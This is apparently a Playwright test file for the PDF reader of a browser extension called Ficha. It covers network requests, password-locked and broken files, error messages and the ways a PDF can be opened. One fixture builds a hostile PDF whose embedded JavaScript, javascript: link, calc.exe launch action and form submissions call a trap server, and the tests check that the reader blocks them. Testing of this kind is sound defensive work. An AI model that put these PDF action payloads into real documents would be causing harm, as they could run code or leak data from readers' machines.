/** How PDFs come into the reader, what is fetched for them, and what is said of those that do not open. */
import { expect, type Page } from '@playwright/test';
import { waitForMarks } from '../support/browser/marked-names.ts';
import { stopPrinting } from '../support/pdf/print-pdf.ts';
import { rawPdf } from '../support/pdf/raw-pdf.ts';
import { scan } from '../support/pdf/sample-pdfs.ts';
import { axeFindings } from './axe.ts';
import { openPopup, testWithFicha } from './ficha.ts';
import { openReader, type PdfServer, pageDrawn, servePdfs } from './reader.ts';
import { dispatchBrowserEvent, ownAddress } from './worker.ts';

const test = testWithFicha();

const PLAIN = rawPdf({ pages: [['The Grupo Colina of Peru.']] });

/** More than the reader takes, by what the server says of it. */
const HUGE = String(301 * 1024 * 1024);

/** What a hostile document asks for: scripts, sending of forms, programs, files and remote parts. */
const hostile = (origin: string) =>
  rawPdf({
    pages: [['The Grupo Colina of Peru.']],
    catalogue: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${origin}/script"\\); this.submitForm\\("${origin}/form"\\);) >>
      /AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>) >>`,
    annotations: [
      `<< /Type /Annot /Subtype /Link /Rect [60 700 300 720] /A << /S /URI /URI (javascript:fetch\\('${origin}/link'\\)) >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [60 650 300 670] /A << /S /Launch /F (calc.exe) >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [60 600 300 620] /A << /S /SubmitForm /F << /FS /URL /F (${origin}/submit) >> >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [60 550 300 570] /A << /S /URI /URI (https://example.org/good) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ana) /Rect [60 500 300 520] /DA (/F1 12 Tf) >>`,
    ],
  });

let server: PdfServer;

test.beforeAll(async () => {
  const image = await scan();
  await stopPrinting();
  server = await servePdfs({
    '/plain.pdf': { body: PLAIN, headers: { 'set-cookie': 'visitor=1' } },
    '/scan.pdf': { body: image },
    '/locked.pdf': { body: rawPdf({ pages: [['The Grupo Colina of Peru.']], password: 'colina' }) },
    '/broken.pdf': { body: Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog') },
    '/page.pdf': {
      body: Buffer.from('<!doctype html><title>Sign in</title>'),
      headers: { 'content-type': 'text/html' },
    },
    '/empty.pdf': { body: Buffer.alloc(0) },
    '/huge.pdf': { body: PLAIN, headers: { 'content-length': HUGE } },
    '/private.pdf': { body: Buffer.alloc(0), status: 403 },
  });
});

test.afterAll(() => server.close());

test('nothing but the asked address is fetched, without telling who asks', async ({ ficha }) => {
  const requests: string[] = [];
  const note = (request: { url: () => string }) => requests.push(request.url());
  ficha.context.on('request', note);
  server.requests.length = 0;
  const page = await openReader(ficha, `${server.origin}/plain.pdf#page=1`);
  await pageDrawn(page);
  await waitForMarks(page);
  expect([...new Set(requests.filter((address) => !address.startsWith('chrome-extension://')))]).toEqual([
    `${server.origin}/plain.pdf`,
  ]);
  for (const { path, headers } of server.requests) {
    expect(path).toBe('/plain.pdf');
    expect(headers).not.toHaveProperty('referer');
    expect(headers).not.toHaveProperty('origin');
  }
  ficha.context.off('request', note);
  await page.close();
});

test('scripts, forms, programs and remote parts of a document do nothing', async ({ ficha }) => {
  const trap = await servePdfs({});
  const own = await servePdfs({ '/hostile.pdf': { body: hostile(trap.origin) } });
  const page = await openReader(ficha, `${own.origin}/hostile.pdf`);
  await pageDrawn(page);
  await waitForMarks(page);
  const links = page.locator('.annotationLayer a');
  await expect
    .poll(() => links.evaluateAll((all) => all.map((link) => link.getAttribute('href'))))
    .toContain('https://example.org/good');
  const addresses = await links.evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
  expect(addresses.filter((protocol) => !['https:', 'chrome-extension:'].includes(protocol))).toEqual([]);
  const good = page.locator('.annotationLayer a[href="https://example.org/good"]');
  await expect(good).toHaveAttribute('target', '_blank');
  await expect(good).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(page.locator('.annotationLayer :is(input, textarea, select, form)')).toHaveCount(0);
  for (const link of await links.all())
    if (!(await link.getAttribute('href'))?.startsWith('https')) await link.click({ force: true });
  expect(trap.requests).toEqual([]);
  await page.close();
  await own.close();
  await trap.close();
});

test('a locked document asks for its password until the right one comes', async ({ ficha }) => {
  const page = await openReader(ficha, `${server.origin}/locked.pdf`);
  const field = page.getByLabel('Password');
  await expect(field).toBeFocused();
  expect(await axeFindings(page)).toEqual([]);
  await field.fill('roses');
  await field.press('Enter');
  await expect(page.getByRole('alert')).toHaveText('This password does not open the document.');
  await page.getByLabel('Password').fill('colina');
  await page.getByRole('button', { name: 'Open' }).click();
  await pageDrawn(page);
  expect((await waitForMarks(page)).map(({ text }) => text)).toEqual(['Grupo Colina']);
  await page.close();
});

test('a locked document can be left for another one', async ({ ficha }) => {
  const page = await openReader(ficha, `${server.origin}/locked.pdf`);
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Read a PDF' })).toBeVisible();
  await page.getByRole('textbox').fill(`${server.origin}/plain.pdf`);
  await page.getByRole('button', { name: 'Open', exact: true }).click();
  await pageDrawn(page);
  await page.close();
});

test('a scan says that it has no text', async ({ ficha }) => {
  const page = await openReader(ficha, `${server.origin}/scan.pdf`);
  await expect(page.getByText('made of images without text')).toBeVisible();
  await page.close();
});

for (const [path, sentence] of [
  ['/broken.pdf', 'This is not a PDF, or it is damaged.'],
  ['/page.pdf', 'This is not a PDF, or it is damaged.'],
  ['/empty.pdf', 'This is not a PDF, or it is damaged.'],
  ['/huge.pdf', 'The document is larger than 300 MB'],
  ['/private.pdf', 'The site gives this document only'],
  ['/nowhere.pdf', 'There is no document at this address.'],
] as const)
  test(`${path} ends in a clear sentence`, async ({ ficha }) => {
    const page = await openReader(ficha, server.origin + path);
    await expect(page.getByRole('alert')).toContainText(sentence);
    // All look alike.
    if (path === '/broken.pdf') expect(await axeFindings(page)).toEqual([]);
    await page.close();
  });

test('other addresses end in a clear sentence, without a request', async ({ ficha }) => {
  for (const [address, sentence] of [
    ['http://127.0.0.1:9/nobody.pdf', 'The site cannot be reached'],
    ['file:///tmp/report.pdf', 'Browsers do not let Ficha open a file by its address.'],
    ['javascript:alert(1)', 'This is not the address of a web page.'],
    ['chrome://settings', 'This is not the address of a web page.'],
  ] as const) {
    const page = await openReader(ficha, address);
    await expect(page.getByRole('alert')).toContainText(sentence);
    await expect(page.locator('a[href^="javascript"], a[href^="chrome:"]')).toHaveCount(0);
    await page.close();
  }
});

/** The reader that opens next. */
const nextReader = (page: Page) =>
  page
    .context()
    .waitForEvent('page', (opened) => opened.url().includes('/reader.html') || opened.url() === 'about:blank');

test('a file that is chosen or dropped in the library opens in the reader', async ({ ficha }) => {
  const library = await ficha.context.newPage();
  await library.goto(ownAddress(ficha, '/library.html#/read'));
  await expect(library.getByRole('heading', { level: 1, name: 'Read a PDF' })).toBeVisible();
  expect(await axeFindings(library)).toEqual([]);
  const opening = nextReader(library);
  await library
    .locator('input[type=file]')
    .setInputFiles({ name: 'chosen.pdf', mimeType: 'application/pdf', buffer: PLAIN });
  const chosen = await opening;
  await pageDrawn(chosen);
  await expect(chosen).toHaveTitle('chosen.pdf');
  expect((await waitForMarks(chosen)).map(({ text }) => text)).toEqual(['Grupo Colina']);
  await chosen.close();

  const again = nextReader(library);
  const transfer = await library.evaluateHandle((content) => {
    const data = new DataTransfer();
    data.items.add(new File([Uint8Array.from(atob(content), (char) => char.charCodeAt(0))], 'dropped.pdf'));
    return data;
  }, PLAIN.toString('base64'));
  await library.dispatchEvent('.pdf-drop', 'drop', { dataTransfer: transfer });
  const dropped = await again;
  await pageDrawn(dropped);
  await expect(dropped).toHaveTitle('dropped.pdf');
  // The file was the library's to give: without that page, it must be chosen again.
  await library.close();
  await dropped.reload();
  await expect(dropped.getByRole('alert')).toContainText('Choose the file again.');
  await dropped.close();
});

test('the context menu of a link, the address bar and the popup open the reader', async ({ ficha }) => {
  const url = `${server.origin}/plain.pdf`;
  const at = await ficha.open('<!doctype html><title>Links</title>');
  const opensReader = async (act: () => Promise<unknown>) => {
    const opening = ficha.context.waitForEvent('page');
    await act();
    const reader = await opening;
    await pageDrawn(reader);
    expect(new URL(reader.url()).searchParams.get('url')).toBe(url);
    await reader.close();
  };
  await opensReader(() =>
    dispatchBrowserEvent(ficha, 'contextMenus.onClicked', { menuItemId: 'read-linked-pdf', linkUrl: url }, {}),
  );
  await opensReader(() => dispatchBrowserEvent(ficha, 'contextMenus.onClicked', { menuItemId: 'read-pdf' }, { url }));
  await opensReader(() => dispatchBrowserEvent(ficha, 'omnibox.onInputEntered', url, 'newForegroundTab'));
  await at.close();

  const tab = await ficha.context.newPage();
  await tab.goto(url);
  const popup = await openPopup(ficha, tab);
  await opensReader(() => popup.getByRole('button', { name: 'Open in Ficha’s reader' }).click());
  await tab.close();
});
